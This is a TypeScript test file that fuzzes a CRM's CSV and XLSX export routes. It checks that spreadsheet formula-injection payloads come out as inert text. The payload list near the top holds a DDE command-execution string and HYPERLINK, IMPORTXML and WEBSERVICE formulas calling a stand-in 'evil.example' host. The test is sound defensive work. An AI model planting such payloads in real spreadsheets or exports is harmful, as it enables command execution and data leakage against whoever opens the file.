import { mkdtemp, rm, writeFile } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { text } from 'node:stream/consumers';
import { parse as parseCsv } from 'csv-parse/sync';
import { afterAll, beforeAll, expect, test } from 'vitest';
import { fromBuffer } from 'yauzl';
import { inspectFile } from '#connectors/file/read/inspect.ts';
import { openTable } from '#connectors/file/read/open-table.ts';
import { type FactField, type FactSourceKey, factSource, factSources } from '#engine/facts/catalog.ts';
import { factRules } from '#stages/crm/contract.ts';
import { saveFacts } from '#stages/crm/service/save-facts.ts';
import { asSystem } from '../build.ts';
import { makeWorld, type World } from '../law/world.ts';

/**
 * F4: texts that a spreadsheet would take for formulas, in every text column of every kind of record, through the export routes
 * in both formats. Reopened with our own reader and looked at cell by cell: none is a formula, and negative numbers are numbers.
 */
let world: World;
let folder: string;

const starts = ['=', '+', '-', '@', '\t=', '\r=', '＝', '＋', '－', '＠'];
const endings = [
  ...['1+1', 'cmd|"/c calc"!A1', 'HYPERLINK("http://evil.example","x")', 'IMPORTXML("http://evil.example","//a")'],
  ...['SUM(A1:A9)', 'WEBSERVICE("http://evil.example")', 'x', '(1)', '"a",b', "'", '1;2', 'DDE("a";"b";"c")'],
  ...['@SUM(1)', '{1}', '-2+3', 'A1', '$A$1', 'REF!', 'now()', '甲'],
];
const payloads = starts.flatMap((start) => endings.map((ending) => `${start}${ending}`));

beforeAll(async () => {
  world = await makeWorld();
  folder = await mkdtemp(join(tmpdir(), 'yeji-exports-'));
  await asSystem(world.test, async (ctx) => {
    for (const { key: kind, fields } of factSources) {
      const rows = payloads.map((payload, number) => ({
        sourceId: `F${number}`,
        values: Object.fromEntries(fields.flatMap((field) => valuesOf(kind, field, payload))),
      }));
      await saveFacts(ctx, kind, rows, { origin: 'fuzz' });
    }
  });
});
afterAll(async () => {
  await world.close();
  await rm(folder, { recursive: true });
});

/** The payload in every text column; what the kind cannot do without; in amounts a negative number. */
function valuesOf(
  kind: FactSourceKey,
  { key, type, choices }: FactField,
  payload: string,
): [string, string | boolean][] {
  if (key === 'owner') return [[key, 'LI']];
  if (key === 'amount') return [[key, '-1234.5']];
  if (type === 'text' && key !== 'currency') return [[key, payload]];
  if (!factRules[kind].required.includes(key)) return [];
  return [[key, choices?.[0]?.value ?? (type === 'date' ? '2026-03-02' : '1')]];
}

async function download(kind: string, format: 'csv' | 'xlsx'): Promise<Buffer> {
  const url = `/api/records/${kind}/export?format=${format}&language=zh`;
  const response = await world.send('administrator', { method: 'GET', url });
  expect(response.status, url).toBe(200);
  return Buffer.from(await response.arrayBuffer());
}

const looksLive = (cell: string) => /^[=+\-@\t\r\n＝＋－＠]/.test(cell) && !/^-?\d+(\.\d+)?$/.test(cell);

test('there are 200 payloads, and the test knows a live one', () => {
  expect(payloads).toHaveLength(200);
  expect(payloads.filter((payload) => !looksLive(payload))).toEqual([]);
  expect([looksLive('-120.5'), looksLive("'=1+1"), looksLive('甲')]).toEqual([false, false, false]);
});

test.each(factSources.map(({ key }) => key))('%s as CSV holds no formula', async (kind) => {
  const rows: string[][] = parseCsv(await download(kind, 'csv'), { bom: true, relaxColumnCount: true });
  expect(rows.flat().filter(looksLive)).toEqual([]);
  expect(rows.length).toBeGreaterThan(payloads.length);
  // Nothing of the text is lost: only an apostrophe stands before it.
  const cells = new Set(rows.flat());
  const texts = factSource(kind).fields.filter(({ key, type }) => type === 'text' && key !== 'currency');
  if (texts.length > 0) expect(payloads.filter((payload) => !cells.has(`'${payload}`))).toEqual([]);
});

test.each(factSources.map(({ key }) => key))('%s as XLSX holds no formula cell, and reads as it was', async (kind) => {
  const file = await download(kind, 'xlsx');
  for (const [name, xml] of await unzip(file)) {
    if (name.startsWith('xl/worksheets/')) expect(xml, name).not.toMatch(/<f[ >/]|<c [^>]*t="(e|str)"/);
    expect(name).not.toMatch(/externalLink|calcChain|vbaProject|connections|query/i);
  }
  const path = join(folder, `${kind}.xlsx`);
  await writeFile(path, file);
  const table = await openTable(await inspectFile(path, `${kind}.xlsx`));
  let negatives = 0;
  for await (const block of table.blocks) {
    for (const { cells } of block) {
      const live = cells.filter((cell) => typeof cell === 'string' && looksLive(cell));
      expect(live).toEqual([]);
      if (cells.some((cell) => typeof cell === 'object' && cell?.number === '-1234.5')) negatives += 1;
    }
  }
  if (factSource(kind).fields.some(({ key }) => key === 'amount')) expect(negatives).toBe(payloads.length);
});

function unzip(file: Buffer): Promise<[string, string][]> {
  return new Promise((resolve, reject) => {
    fromBuffer(file, { lazyEntries: true }, (error, zip) => {
      if (error) return reject(error);
      const parts: [string, string][] = [];
      zip.on('entry', (entry) => {
        zip.openReadStream(entry, (problem, stream) => {
          if (problem) return reject(problem);
          text(stream).then((content) => {
            parts.push([entry.fileName, content]);
            zip.readEntry();
          }, reject);
        });
      });
      zip.on('end', () => resolve(parts));
      zip.readEntry();
    });
  });
}
